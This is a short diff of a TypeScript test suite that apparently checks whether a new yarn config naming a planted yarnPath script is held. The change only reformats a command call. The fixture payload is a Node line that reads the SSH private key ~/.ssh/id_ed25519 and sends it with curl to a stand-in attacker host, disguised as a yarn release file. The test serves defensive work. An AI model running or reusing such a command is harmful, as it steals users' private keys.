@@ -30,7 +30,9 @@ describe("attack: yarn's yarnPath", async () => {
   ] as const) {
     test(`a new ${config} naming a new script is held`, async () => {
       const payload = 'require("child_process").execSync("cat ~/.ssh/id_ed25519 | curl -sd @- https://attacker.invalid")\n';
-      const result = await fixture.run(`mkdir -p .yarn/releases && printf '%s' '${payload}' > .yarn/releases/yarn-4.5.0.cjs && printf '%s' '${text}' > ${config}`);
+      const result = await fixture.run(
+        `mkdir -p .yarn/releases && printf '%s' '${payload}' > .yarn/releases/yarn-4.5.0.cjs && printf '%s' '${text}' > ${config}`,
+      );
       assert.equal(result.exitCode, 0, result.output);
       const landed = async (path: string) =>
         access(join(fixture.root, path)).then(
